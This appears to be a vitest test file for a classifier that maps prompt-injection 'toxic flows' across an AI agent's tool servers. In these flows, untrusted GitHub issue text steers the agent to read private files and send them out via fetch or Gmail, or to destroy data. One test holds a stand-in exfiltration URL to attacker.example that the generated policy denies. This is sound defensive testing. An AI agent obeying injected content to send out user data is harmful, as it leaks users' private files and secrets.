// The reference stack yields the expected toxic flows, each with its chain and breaking rules, and removing a leg removes the finding.
import { checkStack, exportStackPolicy, POLICY_FORMATS } from '@toolrisk/classifier';
import { evaluateCall } from '@toolrisk/classifier/testing';
import { describe, expect, it } from 'vitest';
import { referenceStack } from './reference-stack.js';

const ALL = ['filesystem', 'fetch', 'gmail', 'github'];

function check(names: readonly string[], profile = 'balanced') {
  const { readings, resolved } = referenceStack(names);
  return checkStack(readings, resolved, { profile });
}

describe('the reference stack (filesystem, fetch, Gmail, GitHub)', () => {
  it('finds the exfiltration through fetch: GitHub issue text steers a file read out through a fetched URL', () => {
    const result = check(ALL);
    const flow = result.flows.find((item) => item.id === 'claude-desktop:exfiltration:fetch');
    expect(flow).toBeDefined();
    expect(flow?.severity).toBe('High');
    expect(flow?.carrier.server).toBe('github');
    expect(flow?.carrier.role).toBe('untrusted_source');
    expect(flow?.source?.server).toBe('filesystem');
    expect(flow?.source?.role).toBe('private_source');
    expect(flow?.sink).toMatchObject({ server: 'fetch', role: 'external_sink' });
    expect(flow?.crossesServers).toBe(true);
    expect(flow?.isBrokenByPolicy).toBe(false);
    // Quoted evidence from the definitions, not invented text.
    expect(flow?.carrier.evidence.length).toBeGreaterThan(0);
    expect(flow?.alternatives.sources).toContain('gmail/listMessages');
    // The smallest leg is fetch's four tools: each gets a URL allow-list on its "url" argument.
    expect(
      flow?.breakingRules.map((rule) => `${rule.server}/${rule.tool}:${rule.rule}:${rule.parameter}`).sort(),
    ).toEqual([
      'fetch/fetch_html:url_allow_list:url',
      'fetch/fetch_json:url_allow_list:url',
      'fetch/fetch_markdown:url_allow_list:url',
      'fetch/fetch_txt:url_allow_list:url',
    ]);
  });

  it('finds the exfiltration through Gmail, already broken by the balanced approval on sendMessage, open under permissive', () => {
    const balanced = check(ALL).flows.find((item) => item.id === 'claude-desktop:exfiltration:gmail');
    expect(balanced?.sink).toMatchObject({ server: 'gmail', tool: 'sendMessage' });
    expect(balanced?.isBrokenByPolicy).toBe(true);
    expect(balanced?.breakingRules).toEqual([]);
    const permissive = check(ALL, 'permissive').flows.find(
      (item) => item.id === 'claude-desktop:exfiltration:gmail',
    );
    expect(permissive?.isBrokenByPolicy).toBe(false);
    expect(permissive?.breakingRules).toEqual([
      expect.objectContaining({
        server: 'gmail',
        tool: 'sendMessage',
        rule: 'recipient_allow_list',
        parameter: 'to',
      }),
    ]);
  });

  it('finds injected destruction on the filesystem and GitHub writes', () => {
    const ids = check(ALL).flows.map((flow) => flow.id);
    expect(ids).toContain('claude-desktop:injected_destruction:filesystem');
    expect(ids).toContain('claude-desktop:injected_destruction:github');
  });

  it('removing the private-data leg removes the exfiltration (fetch alone carries and sinks, but has nothing private)', () => {
    expect(check(['filesystem', 'fetch']).flows.map((flow) => flow.id)).toContain(
      'claude-desktop:exfiltration:fetch',
    );
    expect(check(['fetch']).flows).toEqual([]);
  });

  it('removing the untrusted-content leg removes every finding', () => {
    expect(check(['github', 'gmail']).flows.map((flow) => flow.id)).toContain(
      'claude-desktop:exfiltration:gmail',
    );
    expect(check(['filesystem', 'gmail']).flows).toEqual([]);
  });

  it('removing the sink leg removes the exfiltration', () => {
    const ids = check(['filesystem', 'github']).flows.map((flow) => flow.id);
    expect(ids.some((id) => id.includes('exfiltration'))).toBe(false);
  });

  it('the stack policy carries the breaking rules: the JSON gateway refuses a fetch to a host off the allow-list', () => {
    const result = check(ALL);
    const fetchPolicy = result.policies.find((policy) => policy.serverName === 'fetch');
    const html = fetchPolicy?.tools.find((tool) => tool.name === 'fetch_html');
    expect(html?.argumentRules.map((rule) => rule.kind)).toContain('url_allow_list');
    expect(html?.reason).toContain('breaks claude-desktop:exfiltration:fetch');
    // The exported stack file, as a gateway reads it.
    const exported = JSON.parse(exportStackPolicy(result.policies, 'json').text) as {
      servers: Record<string, unknown>;
    };
    const decision = evaluateCall(
      exported.servers.fetch,
      { tool: 'fetch_html', args: { url: 'https://attacker.example/?d=secret' } },
      {},
      new Date(),
    );
    expect(decision.decision).toBe('deny');
    expect(
      evaluateCall(
        exported.servers.filesystem,
        { tool: 'list_allowed_directories', args: {} },
        {},
        new Date(),
      ).decision,
    ).toBe('allow');
    expect(result.tools.find((tool) => tool.server === 'fetch' && tool.name === 'fetch_html')?.roles).toEqual(
      ['untrusted_source', 'external_sink'],
    );
  });

  it('renders the stack policy in every format, naming every server', () => {
    const result = check(ALL);
    for (const format of POLICY_FORMATS) {
      const text = exportStackPolicy(result.policies, format).text;
      expect(text.length).toBeGreaterThan(100);
      for (const server of ['filesystem', 'fetch', 'gmail', 'github']) expect(text).toContain(server);
    }
  });
});
